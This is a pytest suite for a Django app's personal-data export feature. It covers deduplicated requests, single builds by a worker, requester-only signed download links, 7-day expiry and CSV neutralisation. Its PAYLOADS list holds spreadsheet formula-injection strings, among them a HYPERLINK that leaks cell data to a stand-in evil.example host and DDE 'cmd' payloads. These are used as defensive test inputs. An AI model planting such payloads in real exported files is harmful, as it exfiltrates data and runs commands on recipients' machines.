"""Asking for an export, the worker building it exactly once, the signed link (its requester
alone, 7 days on the pinned clock, then deleted) and CSV cells safe in a spreadsheet."""

from __future__ import annotations

import csv
import io
from datetime import timedelta
from typing import Any

import pytest
import time_machine
from django.core.management import call_command
from django.db import transaction
from django.test import Client
from django.urls import reverse
from django_tasks_db.models import DBTaskResult

from rapport.export import archive, services
from rapport.export.models import DataExport
from rapport.export.tasks import build_export
from rapport.meetings.models import TalkingPoint
from rapport.meetings.services import point_add
from tests.canaries import plant_canaries
from tests.cast import ROLES, Cast, build_cast
from tests.export.conftest import built_export, unzip

PAYLOADS = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C notepad'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)


def _client(person: Any) -> Client:
    client = Client()
    client.force_login(person)
    return client


def test_formula_cells_get_a_leading_apostrophe() -> None:
    for payload in PAYLOADS:
        assert archive.neutralise_cell(payload) == "'" + payload
    assert archive.neutralise_cell("Plain words = fine") == "Plain words = fine"
    assert archive.neutralise_cell(None) == ""
    assert archive.neutralise_cell(3) == "3"


def test_injection_payloads_in_points_come_out_neutralised_in_the_csv(cast: Cast) -> None:
    for payload in PAYLOADS:
        point_add(
            one_on_one=cast.one_on_one,
            author=cast.report,
            text=f"{payload}",
            section="performance",
            is_private=False,
        )
    files = unzip((services.export_dir() / built_export(cast.report).file_name).read_bytes())
    rows = list(csv.reader(io.StringIO(files["talking_points.csv"], newline="")))
    texts = [row[rows[0].index("text")] for row in rows[1:]]
    # As stored (the point form trims a leading tab or return, which leaves "=1+1").
    stored = TalkingPoint.objects.filter(section="performance").values_list("text", flat=True)
    assert len(stored) == len(PAYLOADS)
    for text in stored:
        assert text.startswith(archive.FORMULA_STARTS)
        assert "'" + text in texts, text
    for row in rows:
        for cell in row:
            assert not cell.startswith(archive.FORMULA_STARTS), cell
    # The JSON keeps the words exactly as written: it is data, not a spreadsheet.
    assert PAYLOADS[0].replace('"', '\\"') in files["data.json"]


def test_asking_twice_while_it_is_prepared_keeps_one_request(cast: Cast) -> None:
    client = _client(cast.report)
    url = reverse("export:request")
    first = client.post(url, follow=True)
    assert "We are preparing a copy of your data" in first.content.decode()
    second = client.post(url, follow=True).content.decode()
    assert "already being prepared" in second
    assert DataExport.objects.filter(person=cast.report).count() == 1
    assert "being prepared" in client.get(reverse("account")).content.decode()


def test_the_request_enqueues_one_task_and_the_worker_builds_it_exactly_once(
    cast: Cast, monkeypatch: pytest.MonkeyPatch, django_capture_on_commit_callbacks: Any
) -> None:
    builds: list[int] = []
    real = archive.zip_bytes

    def counting(data: dict[str, Any]) -> bytes:
        builds.append(1)
        return real(data)

    monkeypatch.setattr(archive, "zip_bytes", counting)
    with django_capture_on_commit_callbacks(execute=True):
        export = services.export_request(by=cast.report)
    task = DBTaskResult.objects.get()
    assert task.args_kwargs["args"] == [export.pk]
    # The task, a retry of it, and the worker's catch-up tick later: one build.
    assert build_export.call(export.pk) is True
    assert build_export.call(export.pk) is False
    with time_machine.travel(timedelta(minutes=10)):
        assert services.exports_build_waiting() == 0
    assert builds == [1]
    export.refresh_from_db()
    assert export.status == DataExport.Status.READY
    assert (services.export_dir() / export.file_name).is_file()


def test_the_tick_builds_a_request_whose_task_never_ran(cast: Cast) -> None:
    export = services.export_request(by=cast.report)  # on_commit never runs: no task
    assert services.exports_build_waiting() == 0  # young: left to its own task
    with time_machine.travel(timedelta(minutes=3)):
        assert services.exports_build_waiting() == 1
    export.refresh_from_db()
    assert export.status == DataExport.Status.READY


@pytest.mark.django_db(transaction=True)
def test_the_worker_process_builds_the_requested_export(capsys: Any) -> None:
    cast = build_cast()
    response = _client(cast.report).post(reverse("export:request"))
    assert response.status_code == 302
    export = DataExport.objects.get()
    assert DBTaskResult.objects.count() == 1
    call_command("worker", "--once")
    call_command("worker", "--once")
    export.refresh_from_db()
    assert export.status == DataExport.Status.READY
    assert set(DBTaskResult.objects.values_list("status", flat=True)) == {"SUCCESSFUL"}
    page = _client(cast.report).get(reverse("account")).content.decode()
    link = reverse("export:download", args=[services.download_token(export)])
    assert link in page
    download = _client(cast.report).get(link)
    assert download.status_code == 200
    assert "CANARY" not in capsys.readouterr().out


def test_the_requester_downloads_the_zip_and_everyone_else_gets_404(cast: Cast) -> None:
    plant_canaries(cast)
    export = built_export(cast.report)
    url = reverse("export:download", args=[services.download_token(export)])
    response = _client(cast.report).get(url)
    assert response.status_code == 200
    assert response["Content-Type"] == "application/zip"
    assert response["Content-Disposition"].startswith('attachment; filename="rapport-data-')
    assert "CANARY-REPORT-PRIVATE-NOTE-5e6f" in unzip(response.content)["notes.csv"]
    for role in ROLES:
        person = cast.person(role)
        if person is None:
            assert Client().get(url).status_code == 302
        elif person != cast.report:
            assert _client(person).get(url).status_code == 404, role


def test_a_forged_or_altered_link_is_a_404(cast: Cast) -> None:
    export = built_export(cast.report)
    token = services.download_token(export)
    client = _client(cast.report)
    for bad in ("nonsense", token[:-2] + "xx", token.replace(":", ":A", 1)):
        assert client.get(reverse("export:download", args=[bad])).status_code == 404, bad
    # Another person's genuine link is not theirs to use, even as its "own" token re-signed.
    other = built_export(cast.manager)
    assert (
        client.get(reverse("export:download", args=[services.download_token(other)])).status_code
        == 404
    )


def test_the_link_works_for_7_days_then_says_expired_and_the_worker_deletes_the_file(
    cast: Cast,
) -> None:
    export = built_export(cast.report)
    assert export.built_at is not None
    url = reverse("export:download", args=[services.download_token(export)])
    path = services.export_dir() / export.file_name
    client = _client(cast.report)
    with time_machine.travel(export.built_at + timedelta(days=7, seconds=-60), tick=False):
        assert client.get(url).status_code == 200
        assert services.exports_purge_expired() == 0
        assert "Download my data" in client.get(reverse("account")).content.decode()
    with time_machine.travel(export.built_at + timedelta(days=7, seconds=1), tick=False):
        expired = client.get(url)
        assert expired.status_code == 410
        assert "This download link has expired" in expired.content.decode()
        assert path.is_file()  # until the worker's tick
        assert services.exports_purge_expired() == 1
        assert not path.exists()
        assert client.get(url).status_code == 410
        page = client.get(reverse("account")).content.decode()
        assert "expired on" in page and "Download my data" not in page
        # Still nobody else's: a 404 for them, not "expired".
        assert _client(cast.manager).get(url).status_code == 404
    export.refresh_from_db()
    assert export.status == DataExport.Status.EXPIRED


def test_a_failed_build_says_so_and_may_be_asked_again(
    cast: Cast, monkeypatch: pytest.MonkeyPatch
) -> None:
    def broken(data: dict[str, Any]) -> bytes:
        raise OSError("disk full")

    monkeypatch.setattr(archive, "zip_bytes", broken)
    export = services.export_request(by=cast.report)
    with transaction.atomic():
        assert services.export_build(export_id=export.pk) is False
    export.refresh_from_db()
    assert export.status == DataExport.Status.FAILED
    client = _client(cast.report)
    assert "Preparing your last copy failed" in client.get(reverse("account")).content.decode()
    assert client.post(reverse("export:request")).status_code == 302
    assert DataExport.objects.filter(person=cast.report).count() == 2
